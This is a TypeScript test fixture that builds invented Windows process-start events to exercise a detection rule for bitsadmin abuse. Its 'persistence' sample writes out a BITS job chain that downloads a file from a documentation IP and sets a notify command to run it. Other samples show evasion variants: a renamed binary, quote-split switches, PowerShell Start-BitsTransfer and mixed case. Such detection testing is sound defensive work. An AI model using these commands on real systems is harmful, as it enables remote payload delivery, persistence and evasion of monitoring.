/**
 * The process starts that the samples tell of, all invented: hosts, users, addresses and names are
 * of no real place (RFC 2606 domains, RFC 5737 addresses).
 */
export interface ProcessStart {
  /** UTC, ISO 8601 with milliseconds. */
  readonly time: string
  readonly host: string
  readonly user: User
  readonly image: string
  readonly commandLine: string
  readonly parentImage: string
  readonly parentCommandLine: string
  /** From the version resource of the image; Sysmon tells it, 4688 does not. */
  readonly originalFileName: string
}

export interface User {
  readonly domain: string
  readonly name: string
  readonly sid: string
  readonly logonId: string
}

const domainSid = 'S-1-5-21-2040119731-885230172-3301765498'
const mira: User = { domain: 'HARBOR', name: 'mira', sid: `${domainSid}-1118`, logonId: '0x5d3a91' }
const deploy: User = {
  domain: 'HARBOR',
  name: 'svc-deploy',
  sid: `${domainSid}-1604`,
  logonId: '0x1f04c2',
}
const otto: User = { domain: 'HARBOR', name: 'otto', sid: `${domainSid}-1122`, logonId: '0x8810e7' }

const system32 = String.raw`C:\Windows\System32`
const cmd = String.raw`${system32}\cmd.exe`
const bitsadmin = String.raw`${system32}\bitsadmin.exe`
const explorer = String.raw`C:\Windows\explorer.exe`
const powershell = String.raw`${system32}\WindowsPowerShell\v1.0\powershell.exe`

interface Setting {
  readonly host: string
  readonly user: User
  readonly date: string
}

type Start = Omit<ProcessStart, 'host' | 'user' | 'time' | 'originalFileName'> & {
  readonly at: string
  readonly originalFileName?: string
}

const baseName = (path: string): string => path.slice(path.lastIndexOf('\\') + 1)

const starts = ({ host, user, date }: Setting, list: readonly Start[]): readonly ProcessStart[] =>
  list.map(({ at, ...start }) => ({
    ...start,
    time: `${date}T${at}Z`,
    host,
    user,
    originalFileName: start.originalFileName ?? baseName(start.image),
  }))

/** bitsadmin as cmd.exe starts it: two blanks behind the name. */
const bits = (
  at: string,
  commandLine: string,
  parentCommandLine = '"C:\\Windows\\System32\\cmd.exe"',
): Start => ({
  at,
  image: bitsadmin,
  commandLine,
  parentImage: cmd,
  parentCommandLine,
  originalFileName: 'bitsadmin.exe',
})

const shell = (at: string, commandLine: string): Start => ({
  at,
  image: cmd,
  commandLine,
  parentImage: explorer,
  parentCommandLine: explorer,
})

const chain = String.raw`C:\Windows\System32\cmd.exe /c bitsadmin /create TideTable & bitsadmin /addfile TideTable http://192.0.2.77/tide.bin C:\Users\Public\tide.bin & bitsadmin /resume TideTable`

/** A job that runs a program again and again: each of the seven words of the rule once. */
export const persistence = starts(
  { host: 'WKS-042.harbor.example', user: mira, date: '2025-03-04' },
  [
    shell('08:58:12.604', '"C:\\Windows\\System32\\cmd.exe"'),
    shell('09:11:40.118', chain),
    bits('09:11:40.231', 'bitsadmin  /create TideTable', chain),
    bits(
      '09:11:40.402',
      String.raw`bitsadmin  /addfile TideTable http://192.0.2.77/tide.bin C:\Users\Public\tide.bin`,
      chain,
    ),
    bits(
      '09:11:52.870',
      String.raw`bitsadmin  /setnotifycmdline TideTable C:\Windows\System32\cmd.exe "cmd.exe /c C:\Users\Public\tide.cmd"`,
    ),
    bits('09:12:03.015', 'bitsadmin  /setnotifyflags TideTable 3'),
    bits('09:12:09.447', 'bitsadmin  /setminretrydelay TideTable 60'),
    bits('09:12:21.936', 'bitsadmin  /setcustomheaders TideTable "Cookie: berth=7"'),
    bits('09:12:30.552', 'bitsadmin  /resume TideTable'),
    bits('09:13:05.209', 'bitsadmin  /list /verbose'),
  ],
)

/** Software deployment that still uses bitsadmin: the rule fires, and a filter should know better. */
export const deployment = starts(
  { host: 'SRV-FILE01.harbor.example', user: deploy, date: '2025-03-04' },
  [
    bits(
      '02:30:00.000',
      'bitsadmin  /create /download ChartUpdate',
      String.raw`cmd.exe /c D:\deploy\fetch-charts.cmd`,
    ),
    bits(
      '02:30:01.000',
      String.raw`bitsadmin  /addfile ChartUpdate https://charts.harbor.example/2025-03.zip D:\deploy\2025-03.zip`,
      String.raw`cmd.exe /c D:\deploy\fetch-charts.cmd`,
    ),
    bits(
      '02:30:02.000',
      'bitsadmin  /resume ChartUpdate',
      String.raw`cmd.exe /c D:\deploy\fetch-charts.cmd`,
    ),
    bits(
      '02:36:44.000',
      'bitsadmin  /complete ChartUpdate',
      String.raw`cmd.exe /c D:\deploy\fetch-charts.cmd`,
    ),
  ],
)

/** What the rule does not see, and what it rightly leaves alone. */
export const nearMisses = starts(
  { host: 'WKS-117.harbor.example', user: otto, date: '2025-03-05' },
  [
    bits(
      '10:02:11.320',
      String.raw`bitsadmin  /transfer pilot /download /priority foreground http://198.51.100.9/pilot.exe C:\Users\otto\pilot.exe`,
    ),
    bits('10:02:40.007', 'bitsadmin  /list /allusers /verbose'),
    bits('10:03:02.781', 'bitsadmin  /complete pilot'),
    shell('10:04:19.512', 'cmd.exe /c echo bitsadmin /create /addfile /resume > notes.txt'),
    {
      at: '10:05:33.968',
      image: String.raw`C:\Users\Public\bm.exe`,
      commandLine: 'bm.exe /create pilot',
      parentImage: cmd,
      parentCommandLine: 'cmd.exe',
      originalFileName: 'bitsadmin.exe',
    },
    bits('10:06:08.114', 'bitsadmin  /cr"e"ate pilot'),
    bits('10:06:15.640', 'bitsadmin  "/res"ume pilot'),
    {
      at: '10:07:51.226',
      image: powershell,
      commandLine: String.raw`powershell.exe -c "Start-BitsTransfer http://198.51.100.9/pilot.exe C:\Users\otto\pilot.exe"`,
      parentImage: explorer,
      parentCommandLine: explorer,
    },
    {
      at: '10:09:30.873',
      image: String.raw`${system32}\svchost.exe`,
      commandLine: String.raw`C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS`,
      parentImage: String.raw`${system32}\services.exe`,
      parentCommandLine: String.raw`${system32}\services.exe`,
    },
  ],
)

/** Hits that want a second look: letter case as attackers write it, and words of the rule in values. */
export const secondLook = starts(
  { host: 'WKS-117.harbor.example', user: otto, date: '2025-03-05' },
  [
    {
      ...bits('11:40:02.455', 'BITSADMIN  /CrEaTe Spinnaker'),
      image: String.raw`C:\WINDOWS\SYSTEM32\BITSADMIN.EXE`,
    },
    bits('11:41:17.902', 'bitsadmin  /cancel recreate-2024'),
    bits(
      '11:42:36.018',
      String.raw`bitsadmin  /transfer hr https://files.harbor.example/hr/resume.docx C:\Users\otto\resume.docx`,
    ),
  ],
)
